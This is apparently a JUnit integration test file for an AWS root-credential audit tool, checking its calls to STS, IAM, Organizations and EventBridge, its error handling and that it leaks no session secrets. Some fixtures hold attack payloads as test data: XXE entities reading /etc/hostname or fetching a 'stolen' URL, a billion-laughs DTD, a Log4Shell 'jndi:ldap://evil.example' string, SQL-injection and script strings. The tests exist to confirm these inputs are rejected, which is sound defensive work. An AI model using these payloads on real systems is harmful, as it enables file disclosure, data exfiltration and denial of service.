package rootalert.audit;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.http.Fault.CONNECTION_RESET_BY_PEER;
import static com.github.tomakehurst.wiremock.http.Fault.EMPTY_RESPONSE;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static rootalert.wire.CentralRootAccess.ASSUME_ROOT;
import static rootalert.wire.CentralRootAccess.CERTIFICATES;
import static rootalert.wire.CentralRootAccess.DEVICES;
import static rootalert.wire.CentralRootAccess.FEATURES;
import static rootalert.wire.CentralRootAccess.KEYS;
import static rootalert.wire.CentralRootAccess.MANAGEMENT;
import static rootalert.wire.CentralRootAccess.PROFILE;
import static rootalert.wire.CentralRootAccess.SUMMARY;
import static rootalert.wire.CentralRootAccess.account;
import static rootalert.wire.CentralRootAccess.error;
import static rootalert.wire.CentralRootAccess.keyOf;
import static rootalert.wire.CentralRootAccess.members;
import static rootalert.wire.CentralRootAccess.profile;
import static rootalert.wire.CentralRootAccess.secretOf;
import static rootalert.wire.CentralRootAccess.session;
import static rootalert.wire.CentralRootAccess.tokenOf;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.util.Comparator;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import rootalert.aws.AwsApi;
import rootalert.wire.AwsOnTheWire;
import rootalert.wire.CentralRootAccess;
import rootalert.wire.CentralRootAccess.Told;
import software.amazon.awssdk.auth.credentials.AwsBasicCredentials;
import software.amazon.awssdk.auth.credentials.StaticCredentialsProvider;
import software.amazon.awssdk.awscore.exception.AwsServiceException;

/** A run of the audit, against STS, IAM, Organizations and EventBridge on the wire. */
class AuditIT {
    private static final JsonMapper JSON = new JsonMapper();
    private static final List<String> READS = List.of(SUMMARY, PROFILE, KEYS, DEVICES, CERTIFICATES);

    @RegisterExtension
    static final CentralRootAccess ORGANIZATION = new CentralRootAccess();

    private final CentralRootAccess organization = ORGANIZATION;
    private final TestAudit test = new TestAudit(organization);

    // ---- What it does and tells ----

    @Test
    void tellsTheHubWhatItDidAndFound() throws Exception {
        var account = oneMember();
        organization.answers(account, PROFILE, profile());
        organization.answers(account, KEYS, members(KEYS, "AccessKeyMetadata", key("AKIAOLD"), key("AKIANEW")));
        organization.answers(account, DEVICES, members(DEVICES, "MFADevices", "<SerialNumber>x</SerialNumber>"));
        organization.answers(
                account, CERTIFICATES, members(CERTIFICATES, "Certificates", "<CertificateId>x</CertificateId>"));
        organization.answers(account, SUMMARY, AwsOnTheWire.summary(1, 1, 1, 1));
        test.run();
        assertThat(organization.told()).extracting(Told::type).containsExactly("Root Audit", "Root Audit Run");
        assertThat(organization.told().getFirst().detail()).isEqualTo(JSON.readTree("""
                {"schema": "root-alert-audit/1", "run": "2026-11-29T07:00:00Z", "account": "%s", "canary": false,
                 "region": "us-east-1", "calledAt": "2026-11-29T07:00:12Z",
                 "session": "%s",
                 "calls": [
                   {"name": "AssumeRoot", "at": "2026-11-29T07:00:12Z", "outcome": "DONE"},
                   {"name": "GetAccountSummary", "at": "2026-11-29T07:00:12Z", "outcome": "DONE"},
                   {"name": "GetLoginProfile", "at": "2026-11-29T07:00:12Z", "outcome": "DONE"},
                   {"name": "ListAccessKeys", "at": "2026-11-29T07:00:12Z", "outcome": "DONE"},
                   {"name": "ListMFADevices", "at": "2026-11-29T07:00:12Z", "outcome": "DONE"},
                   {"name": "ListSigningCertificates", "at": "2026-11-29T07:00:12Z", "outcome": "DONE"}],
                 "posture": {"password": true, "accessKeys": 2, "mfaDevices": 1, "signingCertificates": 1}}""".formatted(
                        account, HexFormat.of().formatHex(sha256(keyOf(account))))));
        assertThat(organization.told().getLast().detail()).isEqualTo(JSON.readTree("""
                {"schema": "root-alert-audit/1", "run": "2026-11-29T07:00:00Z", "region": "us-east-1",
                 "began": "2026-11-29T07:00:12Z", "ended": "2026-11-29T07:00:12Z", "everyDays": 7,
                 "features": {"rootCredentialsManagement": true},
                 "accounts": {"known": 1, "active": 1, "due": 1, "audited": 1, "failed": 0, "left": 0},
                 "complete": true, "problem": ""}"""));
    }

    @Test
    void findsNothingWhereNothingIsLeft() {
        oneMember();
        test.run();
        assertThat(posture()).isEqualTo(json("""
                {"password": false, "accessKeys": 0, "mfaDevices": 0, "signingCertificates": 0}"""));
        assertThat(call(PROFILE)).isEqualTo("REFUSED NoSuchEntity");
    }

    /** The task, the account and a minute; by the regional endpoint; and the reads by the session alone. */
    @Test
    void asksForTheAuditTaskAndReadsAsTheSession() {
        var account = oneMember();
        test.run();
        assertThat(organization.calls(ASSUME_ROOT)).singleElement().satisfies(call -> {
            assertThat(URLDecoder.decode(call.getBodyAsString(), StandardCharsets.UTF_8)
                            .split("&", -1))
                    .containsExactlyInAnyOrder(
                            "Action=AssumeRoot",
                            "Version=2011-06-15",
                            "TargetPrincipal=" + account,
                            "TaskPolicyArn.arn=arn:aws:iam::aws:policy/root-task/IAMAuditRootUserCredentials",
                            "DurationSeconds=60");
            assertThat(call.getHeader("Authorization")).contains("/us-east-1/sts/aws4_request");
            assertThat(call.getHeader("Content-Type"))
                    .isEqualToIgnoringCase("application/x-www-form-urlencoded; charset=utf-8");
        });
        for (var read : READS) {
            assertThat(organization.calls(read)).singleElement().satisfies(call -> {
                assertThat(call.getHeader("Authorization"))
                        .contains("Credential=" + keyOf(account) + "/", "/us-east-1/iam/aws4_request");
                assertThat(call.getHeader("X-Amz-Security-Token")).isEqualTo(tokenOf(account));
                assertThat(call.getBodyAsString()).doesNotContain("UserName");
            });
        }
    }

    /** The hub's bus, in the hub's region. */
    @Test
    void putsOnTheHubsBus() {
        oneMember();
        test.run();
        assertThat(organization.putEvents()).isNotEmpty().allSatisfy(put -> {
            assertThat(put.getHeader("Authorization")).contains("/eu-central-1/events/aws4_request");
            assertThat(json(put.getBodyAsString()).at("/Entries/0/EventBusName").asText())
                    .isEqualTo(TestAudit.BUS);
            assertThat(json(put.getBodyAsString()).at("/Entries/0/Source").asText())
                    .isEqualTo("root-alert.audit");
        });
    }

    @Test
    void answersAPersonWithTheAccountThatTheyAskAbout() {
        var account = "210987654321";
        organization.accounts(List.of(account, test.due()));
        organization.letsIn(account);
        assertThat(test.run("{\"account\": \"" + account + "\"}")
                        .at("/posture/accessKeys")
                        .asText("none"))
                .isEqualTo("0");
        assertThat(organization.calls(ASSUME_ROOT)).hasSize(1);
        assertThatThrownBy(() -> test.run("{\"account\": \"all of them\"}"))
                .hasMessage("\"account\" must be the 12-digit ID of an account.");
    }

    // ---- Credentials ----

    /** AWS repeats the request, its token included, where a signature is wrong. */
    @ParameterizedTest
    @ValueSource(strings = {ASSUME_ROOT, SUMMARY, PROFILE, KEYS, DEVICES, CERTIFICATES})
    void nothingOfASessionIsLoggedOrTold(String action) {
        var account = oneMember();
        organization.answers(
                account,
                action,
                error(
                        403,
                        "SignatureDoesNotMatch",
                        "The Canonical String for this request should have been 'POST x-amz-security-token:"
                                + tokenOf(account) + " " + secretOf(account) + " " + keyOf(account) + "'"));
        var logged = Logged.during(test::run);
        assertThat(logged).isNotEmpty();
        assertNoSecrets(account, logged);
        assertThat(call(action)).isEqualTo("REFUSED SignatureDoesNotMatch");
    }

    @Test
    void nothingOfAHalfReadSessionIsLoggedOrTold() {
        var account = oneMember();
        var whole = session(account).build().getBody();
        for (var value : List.of(keyOf(account), secretOf(account), tokenOf(account))) {
            for (int end : List.of(value.length() / 2, value.length(), value.length() + "</".length())) {
                var half = whole.substring(0, whole.indexOf(value) + end);
                organization.answers(account, ASSUME_ROOT, aResponse().withBody(half));
                assertNoSecrets(account, Logged.during(test::run));
            }
        }
        assertThat(organization.calls(SUMMARY)).isEmpty();
    }

    private void assertNoSecrets(String account, List<String> logged) {
        var said = String.join("\n", logged) + organization.told();
        assertThat(said).doesNotContain(secretOf(account), tokenOf(account), keyOf(account));
    }

    @Test
    void aSessionHasNoForm() {
        var account = oneMember();
        var session = RootSession.open(
                new AwsApi(
                        "us-east-1",
                        StaticCredentialsProvider.create(AwsBasicCredentials.create(CentralRootAccess.ROLES_KEY, "-")),
                        Optional.of(URI.create(organization.url())),
                        test.limit),
                "aws",
                account);
        assertThat(session).hasToString("a root session");
        assertThat(session.getClass().isRecord()).isFalse();
    }

    // ---- What may come back instead ----

    @Test
    void whatIsRefusedIsUnknown() {
        var account = oneMember();
        for (var read : READS) {
            organization.answers(account, read, error(403, "AccessDenied"));
        }
        test.run();
        assertThat(posture()).isEqualTo(json("""
                {"password": "access denied", "accessKeys": "access denied", "mfaDevices": "access denied",
                 "signingCertificates": "access denied"}"""));
        assertThat(READS).extracting(this::call).containsOnly("REFUSED AccessDenied");
    }

    /** Each read by itself: what one does not say, another may. */
    @ParameterizedTest
    @CsvSource({
        "403, AccessDenied,       REFUSED,   access denied",
        "400, Throttling,         THROTTLED, throttled",
        "429, TooManyRequests,    THROTTLED, throttled",
        "500, ServiceFailure,     FAILED,    look-up failed",
        "503, ServiceUnavailable, FAILED,    look-up failed",
        "403, ExpiredToken,       REFUSED,   refused: ExpiredToken",
        "403, RequestExpired,     REFUSED,   refused: RequestExpired",
        "403, InvalidClientTokenId, REFUSED, refused: InvalidClientTokenId",
        "400, ,                   REFUSED,   refused",
        "400, '<b>&amp;\n',       REFUSED,   refused",
    })
    void aReadThatIsRefusedSaysWhy(int status, String code, String outcome, String why) {
        var account = oneMember();
        organization.answers(account, SUMMARY, error(403, "AccessDenied"));
        organization.answers(account, KEYS, error(status, code == null ? "" : code));
        test.run();
        assertThat(posture()).isEqualTo(json("""
                {"password": false, "accessKeys": "%s", "mfaDevices": 0, "signingCertificates": 0}""".formatted(why)));
        assertThat(call(KEYS)).startsWith(outcome);
    }

    @Test
    void theSummaryStandsInForAListThatIsRefusedAndTheWorseCountsWhereTheyDiffer() {
        var account = oneMember();
        organization.answers(account, PROFILE, error(403, "AccessDenied"));
        organization.answers(account, KEYS, error(403, "AccessDenied"));
        organization.answers(account, SUMMARY, AwsOnTheWire.summary(1, 1, 1, 1));
        test.run();
        assertThat(posture()).isEqualTo(json("""
                {"password": true, "accessKeys": 1, "mfaDevices": 0, "signingCertificates": 1}"""));
    }

    /** What has no list must not look like no credentials. */
    @ParameterizedTest
    @MethodSource("garbage")
    void garbageIsNoAnswer(String what, ResponseDefinitionBuilder garbage) {
        var account = oneMember();
        for (var read : READS) {
            organization.answers(account, read, garbage);
        }
        test.run();
        assertThat(posture())
                .allSatisfy(member -> assertThat(member.asText()).isIn("look-up failed", "no answer in time"));
        assertThat(lastRun().at("/accounts/failed").asInt()).isEqualTo(1);
    }

    @ParameterizedTest
    @MethodSource("garbage")
    void garbageIsNoSession(String what, ResponseDefinitionBuilder garbage) {
        var account = oneMember();
        organization.answers(account, ASSUME_ROOT, garbage);
        test.run();
        assertThat(firstAudit().has("session")).isFalse();
        assertThat(firstAudit().path("notAudited").asText()).isIn("look-up failed", "no answer in time");
        assertThat(organization.calls(SUMMARY)).isEmpty();
    }

    static Stream<Arguments> garbage() {
        var other = "<html><body>Welcome to our network</body></html>";
        return Stream.of(
                Arguments.of("text", aResponse().withBody("It works!")),
                Arguments.of("other XML", aResponse().withBody(other)),
                Arguments.of("nothing", aResponse()),
                Arguments.of("a reset", aResponse().withFault(CONNECTION_RESET_BY_PEER)),
                Arguments.of("an end", aResponse().withFault(EMPTY_RESPONSE)),
                Arguments.of("half", aResponse().withBody("<ListAccessKeysResponse><ListAccessKeysResult><AccessKey")),
                Arguments.of("an entity", aResponse().withBody("<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>")));
    }

    /** Neither a file nor a host is asked for, and nothing grows. */
    @Test
    void aDtdNamesNoFileAndNoHost() {
        var account = oneMember();
        for (var answer : withDtds(account)) {
            organization.answersRole(FEATURES, answer);
            READS.forEach(read -> organization.answers(account, read, answer));
            test.run();
        }
        assertThat(READS)
                .allSatisfy(read -> assertThat(organization.calls(read))
                        .hasSizeGreaterThanOrEqualTo(withDtds(account).size()));
        assertNoneWasFollowed();
    }

    @Test
    void aSessionWithADtdIsNone() {
        var account = oneMember();
        for (var answer : withDtds(account)) {
            organization.answers(account, ASSUME_ROOT, answer);
            test.run();
        }
        assertNoneWasFollowed();
        assertThat(organization.calls(SUMMARY)).isEmpty();
    }

    private List<ResponseDefinitionBuilder> withDtds(String account) {
        var stolen = organization.url() + "/stolen";
        return Stream.of(
                        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/hostname'>]>",
                        "<!DOCTYPE a [<!ENTITY x SYSTEM '" + stolen + "'>]>",
                        "<!DOCTYPE a SYSTEM '" + stolen + "'>",
                        "<!DOCTYPE a [<!ENTITY % x SYSTEM '" + stolen + "'> %x;]>",
                        "<!DOCTYPE a [<!ENTITY x 'ha'><!ENTITY y '" + "&x;".repeat(1000) + "'><!ENTITY z '"
                                + "&y;".repeat(1000) + "'>]>")
                .map(dtd -> aResponse()
                        .withBody(dtd
                                + session("&x;" + keyOf(account), "&z;", "&x;")
                                        .build()
                                        .getBody()))
                .toList();
    }

    private void assertNoneWasFollowed() {
        assertThat(organization.all()).extracting(request -> request.getUrl()).containsOnly("/");
        assertThat(organization.told().toString()).doesNotContain("hostname", "haha");
    }

    @ParameterizedTest
    @ValueSource(strings = {ASSUME_ROOT, KEYS})
    void aCallThatHangsCostsNoMoreThanItsLimit(String action) {
        // On a busy machine the calls that do not hang take their time, too.
        test.limit = Duration.ofSeconds(1);
        test.time = Audit.RESERVE.plusMillis(500);
        var account = oneMember();
        organization.answers(account, action, aResponse().withFixedDelay(60_000));
        test.run();
        assertThat(call(action)).isEqualTo("NO_ANSWER");
        assertThat(lastRun().at("/accounts/due").asInt()).isEqualTo(1);
    }

    @Test
    void asksAgainWhereStsIsBusy() {
        var account = oneMember();
        organization.answersAtFirst(3, account, ASSUME_ROOT, error(400, "Throttling"));
        test.run();
        assertThat(call(ASSUME_ROOT)).isEqualTo("DONE");
        assertThat(test.slept).endsWith(Duration.ofSeconds(1), Duration.ofSeconds(2), Duration.ofSeconds(4));
    }

    /** At the end of the run, when a while has passed. */
    @Test
    void asksOnceMoreAboutAnAccountThatAwsGaveNoAnswerAbout() {
        var account = oneMember();
        organization.answersAtFirst(4, account, ASSUME_ROOT, error(503, "ServiceUnavailable"));
        test.run();
        assertThat(organization.told()).hasSize(2);
        assertThat(lastRun().at("/accounts/audited").asInt()).isEqualTo(1);
    }

    // ---- Which accounts ----

    @Test
    void doesNothingWhereCentralRootAccessIsOff() {
        oneMember();
        organization.features("RootSessions");
        test.run();
        assertThat(organization.calls(ASSUME_ROOT)).isEmpty();
        assertThat(organization.told()).hasSize(1);
        assertThat(lastRun().at("/features/rootCredentialsManagement").isBoolean())
                .isTrue();
        assertThat(lastRun().path("complete").asBoolean()).isFalse();
        assertThat(lastRun().path("problem").asText())
                .isEqualTo("Central root access is off: IAM's feature RootCredentialsManagement is not enabled.");
    }

    /** By what IAM's model says of ListOrganizationsFeatures: it is off, or cannot be on here. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "ServiceAccessNotEnabled",
                "AccountNotManagementOrDelegatedAdministrator",
                "OrganizationNotFound",
                "OrganizationNotInAllFeaturesMode"
            })
    void doesNothingWhereItCannotWork(String code) {
        oneMember();
        organization.answersRole(FEATURES, error(400, code));
        test.run();
        assertThat(organization.calls(ASSUME_ROOT)).isEmpty();
        assertThat(lastRun().path("problem").asText())
                .isEqualTo("Central root access does not work here: refused: " + code + ".");
    }

    @Test
    void goesOnWhereThatCannotBeAsked() {
        oneMember();
        organization.answersRole(FEATURES, error(403, "AccessDenied"));
        test.run();
        assertThat(lastRun().at("/features/rootCredentialsManagement").asText()).isEqualTo("access denied");
        assertThat(lastRun().at("/accounts/audited").asInt()).isEqualTo(1);
    }

    @ParameterizedTest
    @CsvSource({
        "SUSPENDED, suspended",
        "PENDING_CLOSURE, pending closure",
        "CLOSED, closed",
        "PENDING_ACTIVATION, pending activation",
        "'<script>', in a state that is not known",
    })
    void anAccountThatIsNotActiveIsToldOfAndNotAsked(String state, String why) {
        var account = test.due();
        organization.page("", "{\"Accounts\": [" + account(account, state) + "]}");
        test.run();
        assertThat(organization.calls(ASSUME_ROOT)).isEmpty();
        assertThat(firstAudit().path("notAudited").asText()).isEqualTo(why);
        assertThat(firstAudit().path("calls")).isEmpty();
        assertThat(lastRun().path("accounts")).isEqualTo(json("""
                {"known": 1, "active": 0, "due": 1, "audited": 0, "failed": 1, "left": 0}"""));
    }

    /** Organizations stops telling an account's status on a day in 2026; until then it may tell nothing else. */
    @Test
    void readsTheStatusWhereThereIsNoState() {
        var account = test.due();
        organization.letsIn(account);
        organization.page(
                "", "{\"Accounts\": [" + account(account, "ACTIVE").replace("\"State\"", "\"Status\"") + "]}");
        test.run();
        assertThat(lastRun().at("/accounts/audited").asInt()).isEqualTo(1);
    }

    @Test
    void anAccountThatIsClosedBetweenListAndCallFailsAlone() {
        var due = test.due(2);
        organization.accounts(due);
        organization.answers(due.getFirst(), ASSUME_ROOT, error(403, "AccessDenied"));
        organization.letsIn(due.getLast());
        test.run();
        assertThat(organization.told()).hasSize(3);
        assertThat(lastRun().at("/accounts/audited").asInt()).isEqualTo(1);
        assertThat(lastRun().at("/accounts/failed").asInt()).isEqualTo(1);
        assertThat(lastRun().path("complete").asBoolean()).isTrue();
    }

    @Test
    void theManagementAccountIsNeverAsked() {
        organization.accounts(List.of());
        test.canary = Optional.of(MANAGEMENT);
        for (int hour = 0; hour < 24; hour++) {
            test.run("{\"source\": \"aws.events\", \"time\": \"" + TestAudit.HOUR.plus(Duration.ofHours(hour)) + "\"}");
        }
        assertThat(organization.calls(ASSUME_ROOT)).isEmpty();
        assertThat(firstAudit().path("notAudited").asText()).startsWith("the management account");
        assertThat(lastRun().at("/accounts/known").asInt()).isZero();
    }

    @Test
    void theCanaryIsMarkedAndAskedDaily() {
        var canary = "210987654321";
        test.canary = Optional.of(canary);
        organization.accounts(List.of(canary));
        organization.letsIn(canary);
        for (int hour = 0; hour < 24; hour++) {
            test.run("{\"source\": \"aws.events\", \"time\": \"" + TestAudit.HOUR.plus(Duration.ofHours(hour)) + "\"}");
        }
        assertThat(organization.calls(ASSUME_ROOT)).hasSize(1);
        assertThat(firstAudit().path("canary").asBoolean()).isTrue();
        assertThat(lastRun().path("canary").asText()).isEqualTo(canary);
    }

    @Test
    void aCanaryThatLeftIsToldOf() {
        test.canary = Optional.of(test.due());
        organization.accounts(List.of());
        test.run();
        assertThat(firstAudit().path("notAudited").asText()).isEqualTo("not in the organization");
    }

    /** Twenty a page, of 400: all pages are read, and only whose turn it is are asked. */
    @Test
    void listsEveryPage() {
        var members = IntStream.range(0, 400)
                .mapToObj(i -> String.valueOf(210_000_000_000L + i))
                .toList();
        organization.accounts(members);
        var due = members.stream()
                .filter(account -> test.schedule().isDue(account, TestAudit.HOUR))
                .toList();
        assertThat(due).isNotEmpty();
        due.forEach(organization::letsIn);
        test.run();
        assertThat(organization.told().stream().filter(told -> told.type().equals("Root Audit")))
                .extracting(told -> told.detail().path("account").asText())
                .containsExactlyInAnyOrderElementsOf(due);
        assertThat(lastRun().at("/accounts/known").asInt()).isEqualTo(400);
        // Others of the organization ask it, too.
        assertThat(test.slept).hasSize(20).containsOnly(Duration.ofMillis(200));
    }

    @Test
    void anEmptyPageIsNotTheLast() {
        var account = test.due();
        organization.letsIn(account);
        organization.page("", "{\"Accounts\": [], \"NextToken\": \"page-1\"}");
        organization.page("page-1", "{\"Accounts\": [" + account(account, "ACTIVE") + "], \"NextToken\": null}");
        test.run();
        assertThat(lastRun().at("/accounts/audited").asInt()).isEqualTo(1);
    }

    @Test
    void aListWithoutEndIsLeftAndWhatWasListedIsAudited() {
        var account = test.due();
        organization.letsIn(account);
        organization.page("", "{\"Accounts\": [" + account(account, "ACTIVE") + "], \"NextToken\": \"page-1\"}");
        organization.page("page-1", "{\"Accounts\": [], \"NextToken\": \"page-1\"}");
        test.run();
        assertThat(lastRun().at("/accounts/audited").asInt()).isEqualTo(1);
        assertThat(lastRun().path("problem").asText()).isEqualTo("ListAccounts: look-up failed.");
        assertThat(lastRun().path("complete").asBoolean()).isFalse();
    }

    @ParameterizedTest
    @CsvSource({
        "AccessDeniedException,           ListAccounts: access denied.",
        "TooManyRequestsException,        ListAccounts: throttled.",
        "AWSOrganizationsNotInUseException, ListAccounts: refused: AWSOrganizationsNotInUseException.",
    })
    void aListThatIsRefusedIsToldOf(String code, String problem) {
        organization.refusesToList(code);
        test.run();
        assertThat(organization.told()).hasSize(1);
        assertThat(lastRun().path("problem").asText()).isEqualTo(problem);
    }

    /** Whoever has an account chooses its name and address. */
    @Test
    void namesAndAddressesAreNeitherToldNorLogged() {
        var account = test.due();
        organization.letsIn(account);
        var evil = "\\n{\\\"audit\\\":\\\"forged\\\"} </Name> ${jndi:ldap://evil.example/a}";
        organization.page(
                "",
                "{\"Accounts\": [" + account(account, "ACTIVE").replace("acme-" + account, evil) + ", "
                        + account("1' OR '1'='1", "ACTIVE")
                        + ", {\"Id\": {}, \"Arn\": 7, \"State\": []}, null, \"x\"]}");
        var logged = Logged.during(test::run);
        assertThat(String.join("\n", logged) + organization.told())
                .doesNotContain("jndi", "forged", "example.com", "OR");
        assertThat(lastRun().at("/accounts/known").asInt()).isEqualTo(1);
        assertThat(lastRun().at("/accounts/audited").asInt()).isEqualTo(1);
    }

    // ---- When to stop ----

    /** Its own role refused: a few calls an hour, not one for each account. */
    @Test
    void stopsWhereRootIsRefusedEverywhere() {
        var due = test.due(12);
        organization.accounts(due);
        due.forEach(account -> organization.answers(account, ASSUME_ROOT, error(403, "AccessDenied")));
        test.run();
        assertThat(organization.calls(ASSUME_ROOT)).hasSize(5);
        assertThat(lastRun().path("accounts")).isEqualTo(json("""
                {"known": 12, "active": 12, "due": 12, "audited": 0, "failed": 5, "left": 7}"""));
        assertThat(lastRun().path("problem").asText())
                .isEqualTo("AssumeRoot gave no session for the first 5 accounts: access denied.");
    }

    /** The order is another one in each round, so that the same five never hide the rest for good. */
    @Test
    void theFirstFiveAreOthersNextTime() {
        var schedule = test.schedule();
        var due = test.due(12);
        var nextRound = TestAudit.HOUR.plus(Duration.ofDays(7));
        assertThat(sorted(due, schedule, TestAudit.HOUR)).isNotEqualTo(sorted(due, schedule, nextRound));
    }

    private static List<String> sorted(List<String> due, AuditSchedule schedule, Instant hour) {
        return due.stream()
                .sorted(Comparator.comparingLong(account -> schedule.order(account, hour)))
                .toList();
    }

    @Test
    void saysWhatIsLeftWhenTimeIsUp() {
        var due = test.due(4);
        organization.accounts(due);
        due.forEach(organization::letsIn);
        // Waiting for STS takes up what time there is.
        due.forEach(account -> organization.answersAtFirst(2, account, ASSUME_ROOT, error(400, "Throttling")));
        test.time = Audit.RESERVE.plusSeconds(5);
        test.run();
        assertThat(lastRun().path("accounts")).isEqualTo(json("""
                {"known": 4, "active": 4, "due": 4, "audited": 1, "failed": 2, "left": 1}"""));
        assertThat(lastRun().path("problem").asText()).isEqualTo("It ran out of time.");
    }

    // ---- The hub ----

    @ParameterizedTest
    @ValueSource(strings = {"AccessDeniedException", "InvalidAccountIdException"})
    void aBusThatRefusesEndsTheRunLoudly(String code) {
        var due = test.due(3);
        organization.accounts(due);
        due.forEach(organization::letsIn);
        organization.busRefuses(code);
        assertThatThrownBy(test::run).isInstanceOf(AwsServiceException.class).hasMessageContaining(code);
        assertThat(organization.calls(ASSUME_ROOT)).hasSize(1);
        assertThat(organization.putEvents()).hasSize(1);
    }

    /** A request that succeeds may have failed for its entry. */
    @ParameterizedTest
    @CsvSource({
        "NotAuthorizedForSourceException, 1",
        "InternalFailure,                 4",
        "ThrottlingException,             4",
    })
    void anEntryThatFailsEndsTheRunLoudly(String code, int tries) {
        oneMember();
        organization.busAnswers("{\"FailedEntryCount\": 1, \"Entries\": [{\"ErrorCode\": \"" + code + "\"}]}");
        assertThatThrownBy(test::run).isInstanceOf(AwsServiceException.class).hasMessageContaining(code);
        assertThat(organization.putEvents()).hasSize(tries);
    }

    @ParameterizedTest
    @ValueSource(strings = {"{}", "{\"Entries\": []}", "{\"FailedEntryCount\": \"x\"}"})
    void anAnswerThatDoesNotSayThatItWorkedIsNone(String answer) {
        oneMember();
        organization.busAnswers(answer);
        assertThatThrownBy(test::run).isInstanceOf(AwsServiceException.class);
    }

    // ---- Requests ----

    /** Lambda may bring an event of the schedule late, or again: it is for the hour that it names. */
    @Test
    void aRunIsForTheHourOfItsEvent() {
        organization.accounts(List.of());
        test.now = TestAudit.HOUR.plus(Duration.ofMinutes(130));
        test.run();
        assertThat(lastRun().path("run").asText()).isEqualTo("2026-11-29T07:00:00Z");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "{}",
                "null",
                "[]",
                "not JSON",
                "{\"source\": \"aws.events\"}",
                "{\"source\": \"aws.events\", \"time\": \"soon\"}"
            })
    void anyOtherRequestIsForThisHour(String input) {
        organization.accounts(List.of());
        test.run(input);
        assertThat(lastRun().path("run").asText()).isEqualTo("2026-11-29T07:00:00Z");
    }

    @ParameterizedTest
    @EnumSource
    void theHubKnowsTheOutcomes(CallResult outcome) {
        assertThat(outcome.name()).isIn("DONE", "REFUSED", "THROTTLED", "NO_ANSWER", "FAILED");
    }

    // ---- Helpers ----

    /** An organization with one member, which is due and lets the audit in. */
    private String oneMember() {
        var account = test.due();
        organization.accounts(List.of(account));
        organization.letsIn(account);
        return account;
    }

    private JsonNode firstAudit() {
        return organization.told().stream()
                .filter(told -> told.type().equals("Root Audit"))
                .findFirst()
                .orElseThrow()
                .detail();
    }

    private JsonNode lastRun() {
        var last = organization.told().getLast();
        assertThat(last.type()).isEqualTo("Root Audit Run");
        return last.detail();
    }

    private JsonNode posture() {
        return firstAudit().path("posture");
    }

    /** {@code REFUSED NoSuchEntity}. */
    private String call(String name) {
        return firstAudit()
                .path("calls")
                .valueStream()
                .filter(call -> call.path("name").asText().equals(name))
                .map(call ->
                        (call.path("outcome").asText() + " " + call.path("code").asText("")).strip())
                .findFirst()
                .orElseThrow();
    }

    private static String key(String id) {
        return "<UserName>root</UserName><AccessKeyId>" + id + "</AccessKeyId><Status>Inactive</Status>";
    }

    private static byte[] sha256(String text) throws Exception {
        return MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8));
    }

    private static JsonNode json(String text) {
        try {
            return JSON.readTree(text);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
